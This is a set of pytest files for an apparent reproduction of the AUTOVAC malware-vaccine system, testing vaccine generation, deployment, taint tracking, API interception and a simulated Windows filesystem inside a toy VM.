from repro import AutoVac, SystemEnvironment, VaccinePackage, deploy
from repro.core import DeliveryKind, IdentifierKind, Immunization, Mechanism
from repro.core.exclusiveness import ExclusivenessAnalyzer
from repro.corpus import GeneratorConfig, all_families, build_rustock, generate_population
from repro.taint.replay import replay_slice
from repro.winenv import MachineIdentity, ResourceType


@pytest.fixture(scope="module")
def all_vaccines():
    autovac = AutoVac()
    programs = [s.program for s in generate_population(GeneratorConfig(size=60, seed=99))]
    programs += all_families()
    programs.append(build_rustock())
    result = autovac.analyze_population(programs)
    assert result.vaccines, "sweep produced no vaccines at all"
    return result.vaccines


class TestVaccineWellFormedness:
    def test_identifiers_non_empty(self, all_vaccines):
        assert all(v.identifier for v in all_vaccines)

    def test_no_none_immunization_shipped(self, all_vaccines):
        assert all(v.immunization is not Immunization.NONE for v in all_vaccines)

    def test_no_non_deterministic_identifiers(self, all_vaccines):
        assert all(
            v.identifier_kind is not IdentifierKind.NON_DETERMINISTIC
            for v in all_vaccines
        )

    def test_partial_static_patterns_compile_and_match(self, all_vaccines):
        for v in all_vaccines:
            if v.identifier_kind is IdentifierKind.PARTIAL_STATIC:
                assert v.pattern, v.identifier
                assert re.match(v.pattern, v.identifier), (v.pattern, v.identifier)

    def test_algorithmic_vaccines_carry_replayable_slices(self, all_vaccines):
        host = SystemEnvironment(identity=MachineIdentity(computer_name="SWEEP-HOST"))
        for v in all_vaccines:
            if v.identifier_kind is IdentifierKind.ALGORITHM_DETERMINISTIC:
                assert v.slice is not None
                regenerated = replay_slice(v.slice, host.clone())
                assert regenerated

    def test_identifiers_are_normalized(self, all_vaccines):
        from repro.core import normalize_identifier

        for v in all_vaccines:
            assert v.identifier == normalize_identifier(v.resource_type, v.identifier)

    def test_no_whitelisted_identifiers_shipped(self, all_vaccines):
        analyzer = ExclusivenessAnalyzer()
        for v in all_vaccines:
            assert not analyzer.is_whitelisted(v.identifier), v.identifier

    def test_delivery_consistency(self, all_vaccines):
        for v in all_vaccines:
            if v.identifier_kind in (IdentifierKind.PARTIAL_STATIC,
                                     IdentifierKind.ALGORITHM_DETERMINISTIC):
                assert v.delivery is DeliveryKind.DAEMON
            if (v.identifier_kind is IdentifierKind.STATIC
                    and v.mechanism is Mechanism.SIMULATE_PRESENCE
                    and v.resource_type is not ResourceType.PROCESS):
                assert v.delivery is DeliveryKind.DIRECT_INJECTION

    def test_serialization_roundtrip_for_every_vaccine(self, all_vaccines):
        from repro.core import Vaccine

        for v in all_vaccines:
            clone = Vaccine.from_dict(v.to_dict())
            assert clone.identifier == v.identifier
            assert clone.identifier_kind == v.identifier_kind
            assert clone.delivery == v.delivery


class TestMassDeployment:
    def test_entire_sweep_pack_deploys_without_failures(self, all_vaccines):
        host = SystemEnvironment()
        deployment = deploy(VaccinePackage(vaccines=list(all_vaccines)), host)
        assert not deployment.failures
        assert len(deployment.injections) + len(deployment.daemon.vaccines) == len(all_vaccines)

    def test_sweep_pack_json_loads(self, all_vaccines, tmp_path):
        path = tmp_path / "sweep.json"
        VaccinePackage(vaccines=list(all_vaccines)).save(path)
        assert len(VaccinePackage.load(path)) == len(all_vaccines)
