"""String-helper APIs and dispatcher mechanics (interception, labels)."""

import pytest

from repro.winapi import (
    Interception,
    REGISTRY,
    hooked_api_count,
    lookup,
    resource_apis,
)
from repro.winenv import ResourceType


class TestStringApis:
    def test_lstrlen(self, run_asm):
        cpu = run_asm('.section .rdata\ns: .asciz "hello"\n.section .text\n'
                      "    push s\n    call @lstrlenA\n    halt\n")
        assert cpu.regs["eax"] == 5

    def test_lstrcpy_and_cat(self, run_asm):
        cpu = run_asm(
            '.section .rdata\na: .asciz "foo"\nb2: .asciz "bar"\n'
            ".section .data\nbuf: .space 16\n.section .text\n"
            "    push a\n    push buf\n    call @lstrcpyA\n"
            "    push b2\n    push buf\n    call @lstrcatA\n    halt\n"
        )
        text, _ = cpu.memory.read_cstring(cpu.program.labels["buf"])
        assert text == "foobar"

    def test_lstrcmp_equal_and_order(self, run_asm):
        cpu = run_asm('.section .rdata\na: .asciz "abc"\nb2: .asciz "abc"\n.section .text\n'
                      "    push b2\n    push a\n    call @lstrcmpA\n    halt\n")
        assert cpu.regs["eax"] == 0

    def test_lstrcmpi_case_folds(self, run_asm):
        cpu = run_asm('.section .rdata\na: .asciz "ABC"\nb2: .asciz "abc"\n.section .text\n'
                      "    push b2\n    push a\n    call @lstrcmpiA\n    halt\n")
        assert cpu.regs["eax"] == 0

    def test_char_upper_in_place(self, run_asm):
        cpu = run_asm('.section .data\ns: .space 8\n.section .text\n'
                      "    movb [s], 'a'\n    movb [s+1], 'b'\n"
                      "    push s\n    call @CharUpperA\n    halt\n")
        text, _ = cpu.memory.read_cstring(cpu.program.labels["s"])
        assert text == "AB"

    def test_wsprintf_decimal_hex_char(self, run_asm):
        cpu = run_asm(
            '.section .rdata\nf: .asciz "%d-%x-%c"\n.section .data\nb: .space 32\n.section .text\n'
            "    push 'Z'\n    push 0xFF\n    push 42\n    push f\n    push b\n"
            "    call @wsprintfA\n    add esp, 20\n    halt\n"
        )
        text, _ = cpu.memory.read_cstring(cpu.program.labels["b"])
        assert text == "42-ff-Z"

    def test_snprintf_matches_paper_figure2(self, run_asm):
        cpu = run_asm(
            '.section .rdata\nf: .asciz "Global\\\\%s-99"\nn: .asciz "HOST"\n'
            ".section .data\nb: .space 32\n.section .text\n"
            "    push n\n    push f\n    push 22\n    push b\n"
            "    call @_snprintf\n    add esp, 16\n    halt\n"
        )
        text, _ = cpu.memory.read_cstring(cpu.program.labels["b"])
        assert text == "Global\\HOST-99"

    def test_cdecl_caller_cleans_stack(self, run_asm):
        from repro.vm import STACK_TOP

        cpu = run_asm(
            '.section .rdata\nf: .asciz "x%d"\n.section .data\nb: .space 8\n.section .text\n'
            "    push 1\n    push f\n    push b\n    call @wsprintfA\n    add esp, 12\n    halt\n"
        )
        assert cpu.regs["esp"] == STACK_TOP

    def test_atoi(self, run_asm):
        cpu = run_asm('.section .rdata\ns: .asciz "123x"\n.section .text\n'
                      "    push s\n    call @atoi\n    add esp, 4\n    halt\n")
        assert cpu.regs["eax"] == 123

    def test_itoa_hex(self, run_asm):
        cpu = run_asm(".section .data\nb: .space 16\n.section .text\n"
                      "    push 16\n    push b\n    push 255\n    call @_itoa\n"
                      "    add esp, 12\n    halt\n")
        text, _ = cpu.memory.read_cstring(cpu.program.labels["b"])
        assert text == "ff"

    def test_memcpy_moves_taint(self, run_asm):
        cpu = run_asm(
            ".section .data\nsrc: .space 8\ndst: .space 8\n.section .text\n"
            "    push 0\n    push src\n    call @GetComputerNameA\n"
            "    push 4\n    push src\n    push dst\n    call @memcpy\n"
            "    add esp, 12\n    halt\n"
        )
        _, taints = cpu.memory.read_cstring(cpu.program.labels["dst"])
        assert all(taints)


class TestStringCodecSymmetry:
    """``write_string``/``read_string`` form a symmetric UTF-8 codec.

    The old asymmetry (latin-1 + ``errors="replace"`` on write, per-byte
    latin-1 on read) silently corrupted any identifier outside latin-1.
    """

    def _context(self, cpu):
        from repro.winapi.context import ApiContext

        return ApiContext(cpu, cpu.environment, cpu.process, lookup("lstrcpyA"), 1)

    def test_non_latin1_round_trip(self, run_asm):
        cpu = run_asm(".section .data\nbuf: .space 64\n.section .text\n    halt\n")
        ctx = self._context(cpu)
        addr = cpu.program.labels["buf"]
        text = "Vaccine-π-Ω"  # Greek pi + ohm sign: 2- and 3-byte UTF-8
        ctx.write_string(addr, text)
        got, taints = ctx.read_string(addr)
        assert got == text
        assert len(taints) == len(text)  # per *character*, not per byte

    def test_per_character_taints_survive_multibyte(self, run_asm):
        from repro.taint.labels import EMPTY, TaintClass, TaintTag

        cpu = run_asm(".section .data\nbuf: .space 64\n.section .text\n    halt\n")
        ctx = self._context(cpu)
        addr = cpu.program.labels["buf"]
        text = "aπb"
        tag = frozenset({TaintTag(7, "GetComputerNameA", TaintClass.ENV_DETERMINISTIC)})
        ctx.write_string(addr, text, taints=[EMPTY, tag, EMPTY])
        got, taints = ctx.read_string(addr)
        assert got == text
        assert taints == [EMPTY, tag, EMPTY]
        # The multi-byte character's taint covers each of its guest bytes.
        _, byte_taints = cpu.memory.read_cstring(addr)
        assert byte_taints == [EMPTY, tag, tag, EMPTY]

    def test_guest_constructed_non_utf8_bytes_survive(self, run_asm):
        """Bytes the guest wrote itself need not be valid UTF-8; the codec
        must not mangle them (surrogateescape keeps the round trip exact)."""
        cpu = run_asm(".section .data\nbuf: .space 8\nout: .space 8\n.section .text\n    halt\n")
        ctx = self._context(cpu)
        addr = cpu.program.labels["buf"]
        for i, b in enumerate(b"\xffA\xfe"):
            cpu.memory.write_byte(addr + i, b)
        got, _ = ctx.read_string(addr)
        out = cpu.program.labels["out"]
        ctx.write_string(out, got)
        assert [cpu.memory.read_byte(out + i)[0] for i in range(4)] == [0xFF, 0x41, 0xFE, 0]


class TestLabelDatabase:
    def test_lookup_known(self):
        assert lookup("OpenMutexA").resource_type is ResourceType.MUTEX

    def test_lookup_unknown_raises(self):
        with pytest.raises(KeyError):
            lookup("NotAnApi")

    def test_hooked_count_near_paper(self):
        """The paper hooks 89 resource-related calls; we label a comparable
        set (taint-source APIs)."""
        assert 35 <= hooked_api_count() <= 120

    def test_registry_size(self):
        assert len(REGISTRY) >= 70

    def test_resource_apis_cover_all_seven_types(self):
        types = {d.resource_type for d in resource_apis()}
        for name in ("FILE", "REGISTRY", "MUTEX", "PROCESS", "SERVICE", "WINDOW", "LIBRARY"):
            assert getattr(ResourceType, name) in types

    def test_open_mutex_label_matches_table1(self):
        d = lookup("OpenMutexA")
        assert d.identifier_arg == 2       # 3rd parameter lpName
        assert d.failure.retval == 0       # EAX NULL
        assert int(d.failure.last_error) == 0x02

    def test_read_file_label_matches_table1(self):
        d = lookup("ReadFile")
        assert d.identifier_handle_arg == 0  # hFile through handle map
        assert int(d.failure.last_error) == 0x1E


class _ForceFail:
    def __init__(self, api):
        self.api = api

    def intercept(self, apidef, event):
        if event.api == self.api:
            return Interception.FORCE_FAIL
        return Interception.PASS


class _ForceSuccess(_ForceFail):
    def intercept(self, apidef, event):
        if event.api == self.api:
            return Interception.FORCE_SUCCESS
        return Interception.PASS


class TestInterception:
    SRC = ('.section .rdata\nm: .asciz "M"\n.section .text\n'
           "    push m\n    push 0\n    push 0\n    call @CreateMutexA\n    halt\n")

    def test_force_fail_overrides_success(self, run_asm):
        cpu = run_asm(self.SRC, interceptors=[_ForceFail("CreateMutexA")])
        assert cpu.regs["eax"] == 0
        assert cpu.trace.api_calls[0].mutated

    def test_force_fail_has_no_side_effects(self, run_asm, env):
        run_asm(self.SRC, interceptors=[_ForceFail("CreateMutexA")])
        assert not env.mutexes.exists("M")

    def test_force_success_fabricates_handle(self, run_asm, env):
        src = ('.section .rdata\nm: .asciz "Ghost"\n.section .text\n'
               "    push m\n    push 0\n    push 0x1F0001\n    call @OpenMutexA\n    halt\n")
        cpu = run_asm(src, interceptors=[_ForceSuccess("OpenMutexA")])
        assert cpu.regs["eax"] >= 0x100
        assert not env.mutexes.exists("Ghost")  # phantom, not real

    def test_pass_leaves_call_untouched(self, run_asm, env):
        cpu = run_asm(self.SRC, interceptors=[_ForceFail("OpenMutexA")])
        assert cpu.regs["eax"] >= 0x100
        assert env.mutexes.exists("M")
        assert not cpu.trace.api_calls[0].mutated
