"""Filesystem substrate tests."""

import pytest

from repro.winenv import (
    Acl,
    Access,
    FileSystem,
    IntegrityLevel,
    ResourceFault,
    SYSTEM32,
    Win32Error,
    normalize_path,
    vaccine_acl,
)
from repro.winenv.filesystem import basename, dirname, expand_path

MED = IntegrityLevel.MEDIUM
LOW = IntegrityLevel.LOW
SYS = IntegrityLevel.SYSTEM


class TestPathNormalization:
    def test_lowercases_and_backslashes(self):
        assert normalize_path("C:/Windows/System32") == "c:\\windows\\system32"

    def test_expands_system32_macro(self):
        assert normalize_path("%system32%\\evil.exe") == "c:\\windows\\system32\\evil.exe"

    def test_expands_temp_macro(self):
        assert normalize_path("%temp%\\a.tmp") == "c:\\windows\\temp\\a.tmp"

    def test_collapses_double_backslashes(self):
        assert normalize_path("c:\\\\a\\\\b") == "c:\\a\\b"

    def test_expand_path_case_insensitive(self):
        assert "system32" in expand_path("%SYSTEM32%\\x")

    def test_dirname_basename(self):
        assert dirname("c:\\a\\b.exe") == "c:\\a"
        assert basename("c:\\a\\b.exe") == "b.exe"


class TestFileSystem:
    def test_standard_layout_seeded(self):
        fs = FileSystem()
        assert fs.exists(SYSTEM32)
        assert fs.exists("c:\\windows\\system.ini")

    def test_create_and_read(self):
        fs = FileSystem()
        fs.create("c:\\x\\y.exe", MED, content=b"abc")
        assert fs.read("c:\\x\\y.exe", MED) == b"abc"

    def test_create_existing_raises_file_exists(self):
        fs = FileSystem()
        fs.create("c:\\m.dat", MED)
        with pytest.raises(ResourceFault) as exc:
            fs.create("c:\\m.dat", MED)
        assert exc.value.error is Win32Error.FILE_EXISTS

    def test_create_exist_ok_overwrites(self):
        fs = FileSystem()
        fs.create("c:\\m.dat", MED, content=b"old")
        fs.create("c:\\m.dat", MED, content=b"new", exist_ok=True)
        assert fs.read("c:\\m.dat", MED) == b"new"

    def test_read_missing_raises_not_found(self):
        fs = FileSystem()
        with pytest.raises(ResourceFault) as exc:
            fs.read("c:\\nope", MED)
        assert exc.value.error is Win32Error.FILE_NOT_FOUND

    def test_write_appends_by_default(self):
        fs = FileSystem()
        fs.create("c:\\log", MED, content=b"ab")
        fs.write("c:\\log", MED, b"cd")
        assert fs.read("c:\\log", MED) == b"abcd"

    def test_write_at_offset_extends(self):
        fs = FileSystem()
        fs.create("c:\\f", MED)
        fs.write("c:\\f", MED, b"xy", offset=3)
        assert fs.read("c:\\f", MED) == b"\x00\x00\x00xy"

    def test_delete(self):
        fs = FileSystem()
        fs.create("c:\\d", MED)
        fs.delete("c:\\d", MED)
        assert not fs.exists("c:\\d")

    def test_read_with_offset_and_size(self):
        fs = FileSystem()
        fs.create("c:\\f", MED, content=b"0123456789")
        assert fs.read("c:\\f", MED, offset=2, size=3) == b"234"

    def test_listdir(self):
        fs = FileSystem()
        fs.create("c:\\dir\\a", MED)
        fs.create("c:\\dir\\b", MED)
        fs.create("c:\\dir\\sub\\c", MED)
        assert fs.listdir("c:\\dir") == ["c:\\dir\\a", "c:\\dir\\b"]


class TestFileAcls:
    def test_vaccine_file_cannot_be_deleted_by_low(self):
        fs = FileSystem()
        fs.create("c:\\vac", SYS, acl=vaccine_acl())
        with pytest.raises(ResourceFault) as exc:
            fs.delete("c:\\vac", LOW)
        assert exc.value.error is Win32Error.ACCESS_DENIED

    def test_vaccine_file_cannot_be_overwritten_by_low(self):
        fs = FileSystem()
        fs.create("c:\\vac", SYS, acl=vaccine_acl())
        with pytest.raises(ResourceFault):
            fs.create("c:\\vac", LOW, exist_ok=True)

    def test_vaccine_file_readable_by_low(self):
        fs = FileSystem()
        fs.create("c:\\vac", SYS, content=b"v", acl=vaccine_acl())
        assert fs.read("c:\\vac", LOW) == b"v"

    def test_system_can_always_write(self):
        fs = FileSystem()
        fs.create("c:\\vac", SYS, acl=vaccine_acl())
        fs.write("c:\\vac", SYS, b"ok")

    def test_no_access_acl_blocks_read(self):
        fs = FileSystem()
        locked = Acl(owner_level=SYS, everyone=frozenset())
        fs.create("c:\\locked", SYS, acl=locked)
        with pytest.raises(ResourceFault):
            fs.read("c:\\locked", MED)


class TestClone:
    def test_clone_is_independent(self):
        fs = FileSystem()
        fs.create("c:\\orig", MED, content=b"1")
        clone = fs.clone()
        clone.write("c:\\orig", MED, b"2")
        assert fs.read("c:\\orig", MED) == b"1"

    def test_clone_preserves_acl(self):
        fs = FileSystem()
        fs.create("c:\\vac", SYS, acl=vaccine_acl())
        clone = fs.clone()
        with pytest.raises(ResourceFault):
            clone.delete("c:\\vac", LOW)
