"""Shared fixtures for the AUTOVAC reproduction test suite."""

from __future__ import annotations

import pytest

from repro.corpus import all_families, benign_suite
from repro.vm import CPU, assemble
from repro.winapi import Dispatcher
from repro.winenv import IntegrityLevel, SystemEnvironment


@pytest.fixture
def env():
    """A pristine simulated machine."""
    return SystemEnvironment()


@pytest.fixture
def run_asm(env):
    """Assemble + execute guest assembly; returns the finished CPU.

    Usage: ``cpu = run_asm(src)``; the trace is ``cpu.trace`` and the
    machine is ``cpu.environment``.
    """

    def _run(
        source: str,
        environment=None,
        interceptors=None,
        max_steps: int = 50_000,
        integrity: IntegrityLevel = IntegrityLevel.MEDIUM,
        record_instructions: bool = True,
    ) -> CPU:
        machine = environment if environment is not None else env
        program = assemble(source, name="test")
        process = machine.spawn_process("test.exe", integrity=integrity)
        all_int = list(machine.global_interceptors) + list(interceptors or [])
        dispatcher = Dispatcher(machine, process, interceptors=all_int)
        cpu = CPU(
            program,
            environment=machine,
            process=process,
            dispatcher=dispatcher,
            max_steps=max_steps,
            record_instructions=record_instructions,
        )
        cpu.run()
        return cpu

    return _run


@pytest.fixture(scope="session")
def family_programs():
    """The six named family samples (assembled once per session)."""
    return {p.metadata["family"]: p for p in all_families()}


@pytest.fixture(scope="session")
def benign_programs():
    return benign_suite()
