"""Tests for the extension modules: CFG, enforced execution, vaccine
selection, trace serialization, uninstall, and the targeted-malware
scenario."""

import pytest

from repro import AutoVac, SystemEnvironment, VaccinePackage, deploy
from repro.analysis import build_cfg, explore_resource_paths
from repro.core import (
    IdentifierKind,
    Immunization,
    Mechanism,
    Vaccine,
    rank,
    run_sample,
    score,
    select_minimal,
    select_with_backups,
)
from repro.corpus import build_family, build_targeted_apt, prepare_target_environment
from repro.tracing import trace_from_json, trace_to_json
from repro.vm import TEXT_BASE, assemble
from repro.winenv import ResourceType


# ---------------------------------------------------------------------------
# CFG
# ---------------------------------------------------------------------------

class TestCfg:
    def test_straight_line_single_block(self):
        cfg = build_cfg(assemble("main:\n    nop\n    nop\n    halt\n"))
        assert len(cfg.blocks) == 1
        block = cfg.blocks[TEXT_BASE]
        assert block.size == 3 and block.successors == ()

    def test_conditional_creates_two_successors(self):
        cfg = build_cfg(assemble(
            "main:\n    cmp eax, 0\n    jz done\n    nop\ndone:\n    halt\n"))
        branch_block = cfg.block_at(TEXT_BASE)
        assert len(branch_block.successors) == 2

    def test_reachability(self):
        cfg = build_cfg(assemble(
            "main:\n    jmp end\ndead:\n    nop\nend:\n    halt\n"))
        assert cfg.unreachable_code()
        assert cfg.blocks[cfg.entry].successors

    def test_conditional_branch_pcs(self):
        program = assemble("main:\n    cmp eax, 0\n    jz x\n    nop\nx:\n    halt\n")
        assert build_cfg(program).conditional_branch_pcs() == [TEXT_BASE + 1]

    def test_api_call_sites(self):
        program = assemble("main:\n    call @GetTickCount\n    halt\n")
        assert build_cfg(program).api_call_sites() == [(TEXT_BASE, "GetTickCount")]

    def test_family_programs_have_connected_cfgs(self, family_programs):
        for program in family_programs.values():
            cfg = build_cfg(program)
            assert len(cfg.reachable_blocks()) >= 2

    def test_coverage_metric(self):
        program = assemble("main:\n    cmp eax, 0\n    jz d\n    nop\nd:\n    halt\n")
        cfg = build_cfg(program)
        full = {TEXT_BASE + i for i in range(4)}
        assert cfg.coverage(full) == pytest.approx(1.0)
        assert cfg.coverage(set()) == 0.0


# ---------------------------------------------------------------------------
# enforced execution
# ---------------------------------------------------------------------------

DORMANT = r"""
.section .rdata
m: .asciz "GateMtx"
f: .asciz "c:\\hidden\\flag.cfg"
.section .text
main:
    push m
    push 0
    push 0x1F0001
    call @OpenMutexA
    test eax, eax
    jnz infected
    push m
    push 0
    push 0
    call @CreateMutexA
    halt
infected:
    push f
    call @GetFileAttributesA
    cmp eax, 0xFFFFFFFF
    je nf
    push 0
    call @ExitProcess
nf:
    halt
"""


class TestForcedExecution:
    def test_discovers_dormant_resource(self):
        result = explore_resource_paths(assemble(DORMANT, name="dormant"))
        keys = {(c.resource_type, c.identifier) for c in result.discovered}
        assert (ResourceType.FILE, "c:\\hidden\\flag.cfg") in keys

    def test_base_candidates_not_duplicated(self):
        result = explore_resource_paths(assemble(DORMANT, name="dormant"))
        base = {c.key for c in result.base.candidates}
        assert all(c.key not in base for c in result.discovered)

    def test_runs_bounded_by_flip_sites(self):
        result = explore_resource_paths(assemble(DORMANT, name="dormant"), max_flips=1)
        assert result.runs == 2

    def test_no_flips_for_unflagged_sample(self):
        src = ('.section .rdata\nm: .asciz "x"\n.section .text\n'
               "    push m\n    push 0\n    push 0\n    call @CreateMutexA\n    halt\n")
        result = explore_resource_paths(assemble(src, name="plain"))
        assert result.runs == 1 and not result.discovered

    def test_pipeline_integration(self):
        program = assemble(DORMANT, name="dormant")
        plain = AutoVac().analyze(program)
        explored = AutoVac(explore_paths=True).analyze(program)
        plain_ids = {v.identifier for v in plain.vaccines}
        explored_ids = {v.identifier for v in explored.vaccines}
        assert plain_ids <= explored_ids
        assert "exploration" in explored.timings


# ---------------------------------------------------------------------------
# vaccine selection
# ---------------------------------------------------------------------------

def _vaccine(malware="m", imm=Immunization.FULL, kind=IdentifierKind.STATIC,
             rtype=ResourceType.MUTEX, ident="x", mechanism=Mechanism.SIMULATE_PRESENCE,
             bdr=None):
    return Vaccine(malware=malware, resource_type=rtype, identifier=ident,
                   identifier_kind=kind, mechanism=mechanism, immunization=imm, bdr=bdr)


class TestSelection:
    def test_full_beats_partial(self):
        full = _vaccine(imm=Immunization.FULL)
        partial = _vaccine(imm=Immunization.TYPE_II_NETWORK, ident="y")
        assert score(full) > score(partial)
        assert rank([partial, full])[0] is full

    def test_direct_beats_daemon(self):
        direct = _vaccine()
        daemon = _vaccine(kind=IdentifierKind.PARTIAL_STATIC, ident="a-1-b")
        assert score(direct) > score(daemon)

    def test_bdr_breaks_ties(self):
        low = _vaccine(ident="a", bdr=0.3)
        high = _vaccine(ident="b2", bdr=0.9)
        assert rank([low, high])[0] is high

    def test_minimal_keeps_one_full_per_sample(self):
        vaccines = [
            _vaccine(ident="a"),
            _vaccine(ident="b2"),
            _vaccine(ident="c", imm=Immunization.TYPE_III_PERSISTENCE),
        ]
        result = select_minimal(vaccines)
        assert len(result.selected) == 1
        assert result.selected[0].immunization is Immunization.FULL

    def test_minimal_keeps_one_per_partial_class(self):
        vaccines = [
            _vaccine(ident="n1", imm=Immunization.TYPE_II_NETWORK),
            _vaccine(ident="n2", imm=Immunization.TYPE_II_NETWORK),
            _vaccine(ident="p1", imm=Immunization.TYPE_III_PERSISTENCE),
        ]
        result = select_minimal(vaccines)
        assert len(result.selected) == 2
        classes = {v.immunization for v in result.selected}
        assert classes == {Immunization.TYPE_II_NETWORK, Immunization.TYPE_III_PERSISTENCE}

    def test_selection_is_per_malware(self):
        vaccines = [_vaccine(malware="a"), _vaccine(malware="b2", ident="q")]
        result = select_minimal(vaccines)
        assert len(result.selected) == 2
        assert set(result.coverage) == {"a", "b2"}

    def test_backups_added(self):
        vaccines = [_vaccine(ident="a"), _vaccine(ident="b2"), _vaccine(ident="c")]
        minimal = select_minimal(vaccines)
        with_backup = select_with_backups(vaccines, backups_per_sample=1)
        assert len(with_backup.selected) == len(minimal.selected) + 1

    def test_backups_motivated_by_variants(self, family_programs):
        analysis = AutoVac().analyze(family_programs["zeus"])
        result = select_with_backups(analysis.vaccines, backups_per_sample=1)
        assert len(result.selected) >= 2  # mutex + file both kept


# ---------------------------------------------------------------------------
# trace serialization
# ---------------------------------------------------------------------------

class TestTraceSerialization:
    def _trace(self, family_programs):
        return run_sample(family_programs["zeus"], record_instructions=False).trace

    def test_roundtrip_counts(self, family_programs):
        trace = self._trace(family_programs)
        clone = trace_from_json(trace_to_json(trace))
        assert len(clone.api_calls) == len(trace.api_calls)
        assert len(clone.predicates) == len(trace.predicates)
        assert clone.exit_status == trace.exit_status

    def test_roundtrip_event_fidelity(self, family_programs):
        trace = self._trace(family_programs)
        clone = trace_from_json(trace_to_json(trace))
        for a, b in zip(trace.api_calls, clone.api_calls):
            assert a.context_key() == b.context_key()
            assert a.success == b.success and a.error == b.error

    def test_roundtrip_preserves_taint_classes(self, family_programs):
        trace = self._trace(family_programs)
        clone = trace_from_json(trace_to_json(trace))
        original = next(e for e in trace.api_calls if e.identifier_taints)
        restored = clone.event_by_id(original.event_id)
        assert restored.identifier_taints == original.identifier_taints

    def test_alignment_works_on_deserialized_traces(self, family_programs):
        from repro.analysis import align_lcs

        trace = self._trace(family_programs)
        clone = trace_from_json(trace_to_json(trace))
        assert align_lcs(clone.api_calls, trace.api_calls).is_identical

    def test_version_check(self):
        with pytest.raises(ValueError):
            trace_from_json('{"format_version": 99}')


# ---------------------------------------------------------------------------
# uninstall
# ---------------------------------------------------------------------------

class TestUninstall:
    def test_direct_injector_uninstall(self):
        from repro.delivery import DirectInjector

        env = SystemEnvironment()
        injector = DirectInjector(env)
        injector.inject(_vaccine(ident="UninstMtx"))
        injector.inject(_vaccine(ident="c:\\windows\\system32\\u.exe",
                                 rtype=ResourceType.FILE))
        assert env.mutexes.exists("UninstMtx")
        removed = injector.uninstall_all()
        assert removed == 2
        assert not env.mutexes.exists("UninstMtx")
        assert not env.filesystem.exists("c:\\windows\\system32\\u.exe")

    def test_daemon_uninstall_detaches(self):
        from repro.delivery import VaccineDaemon

        env = SystemEnvironment()
        daemon = VaccineDaemon(vaccines=[_vaccine(
            ident="d-1-x", kind=IdentifierKind.PARTIAL_STATIC,
            mechanism=Mechanism.ENFORCE_FAILURE)])
        daemon.vaccines[0].pattern = "^d\\-.+\\-x$"
        daemon.install(env)
        assert daemon in env.global_interceptors
        daemon.uninstall()
        assert daemon not in env.global_interceptors and not daemon.rules


# ---------------------------------------------------------------------------
# targeted malware (paper §II scenario 3)
# ---------------------------------------------------------------------------

class TestTargetedMalware:
    def test_dormant_on_plain_machine(self):
        run = run_sample(build_targeted_apt(), record_instructions=False)
        assert run.trace.terminated  # silent exit
        assert run.environment.network.bytes_sent_by(run.cpu.process.pid) == 0

    def test_detonates_on_target(self):
        env = prepare_target_environment(SystemEnvironment())
        run = run_sample(build_targeted_apt(), environment=env, record_instructions=False)
        assert run.environment.network.bytes_sent_by(run.cpu.process.pid) > 0

    def test_analysis_needs_target_environment(self):
        program = build_targeted_apt()
        plain = AutoVac().analyze(program)
        target = AutoVac(environment=prepare_target_environment(SystemEnvironment()))
        prepared = target.analyze(program)
        assert len(prepared.vaccines) > len(plain.vaccines)

    def test_environment_difference_vaccine_protects_target(self):
        program = build_targeted_apt()
        autovac = AutoVac(environment=prepare_target_environment(SystemEnvironment()))
        analysis = autovac.analyze(program)
        stage = [v for v in analysis.vaccines if "stg1" in v.identifier]
        assert stage and stage[0].mechanism is Mechanism.ENFORCE_FAILURE

        host = prepare_target_environment(SystemEnvironment(rng_seed=3))
        deploy(VaccinePackage(vaccines=stage), host)
        run = run_sample(program, environment=host, record_instructions=False)
        assert run.environment.network.bytes_sent_by(run.cpu.process.pid) == 0
        # The vendor software's own resources are untouched.
        assert run.environment.registry.exists("hklm\\software\\industro\\plc")
