"""Forward taint propagation tests (the Phase-I mechanism)."""

import pytest

from repro.taint.labels import TaintClass
from repro.vm import CPU, assemble
from repro.winapi import Dispatcher
from repro.winenv import SystemEnvironment


def run(src: str):
    env = SystemEnvironment()
    proc = env.spawn_process("t.exe")
    cpu = CPU(assemble(src), environment=env, process=proc, dispatcher=Dispatcher(env, proc))
    cpu.run()
    return cpu


class TestReturnValueTaint:
    def test_api_return_tainted(self):
        cpu = run('.section .rdata\nm: .asciz "x"\n.section .text\n'
                  "    push m\n    push 0\n    push 0\n    call @OpenMutexA\n    halt\n")
        tags = cpu.reg_taint["eax"]
        assert len(tags) == 1
        tag = next(iter(tags))
        assert tag.api == "OpenMutexA" and tag.klass is TaintClass.RESOURCE

    def test_taint_propagates_through_mov(self):
        cpu = run('.section .rdata\nm: .asciz "x"\n.section .text\n'
                  "    push m\n    push 0\n    push 0\n    call @OpenMutexA\n"
                  "    mov ebx, eax\n    halt\n")
        assert cpu.reg_taint["ebx"] == cpu.reg_taint["eax"]

    def test_taint_propagates_through_alu(self):
        cpu = run('.section .rdata\nm: .asciz "x"\n.section .text\n'
                  "    push m\n    push 0\n    push 0\n    call @OpenMutexA\n"
                  "    add eax, 5\n    halt\n")
        assert cpu.reg_taint["eax"]

    def test_taint_propagates_through_memory(self):
        cpu = run('.section .rdata\nm: .asciz "x"\n.section .data\nv: .space 4\n.section .text\n'
                  "    push m\n    push 0\n    push 0\n    call @OpenMutexA\n"
                  "    mov [v], eax\n    mov ecx, [v]\n    halt\n")
        assert cpu.reg_taint["ecx"]

    def test_taint_propagates_through_stack(self):
        cpu = run('.section .rdata\nm: .asciz "x"\n.section .text\n'
                  "    push m\n    push 0\n    push 0\n    call @OpenMutexA\n"
                  "    push eax\n    pop edx\n    halt\n")
        assert cpu.reg_taint["edx"]

    def test_mov_imm_clears_taint(self):
        cpu = run('.section .rdata\nm: .asciz "x"\n.section .text\n'
                  "    push m\n    push 0\n    push 0\n    call @OpenMutexA\n"
                  "    mov eax, 0\n    halt\n")
        assert not cpu.reg_taint["eax"]

    def test_xor_self_clears_taint(self):
        cpu = run('.section .rdata\nm: .asciz "x"\n.section .text\n'
                  "    push m\n    push 0\n    push 0\n    call @OpenMutexA\n"
                  "    xor eax, eax\n    halt\n")
        assert not cpu.reg_taint["eax"] and cpu.regs["eax"] == 0


class TestTaintedPredicates:
    MUTEX_CHECK = (
        '.section .rdata\nm: .asciz "x"\n.section .text\n'
        "    push m\n    push 0\n    push 0\n    call @OpenMutexA\n"
        "    test eax, eax\n    jz done\ndone:\n    halt\n"
    )

    def test_tainted_test_recorded(self):
        cpu = run(self.MUTEX_CHECK)
        assert len(cpu.trace.predicates) == 1
        pred = cpu.trace.predicates[0]
        assert "test" in pred.instr_text
        assert any(t.api == "OpenMutexA" for t in pred.tags)

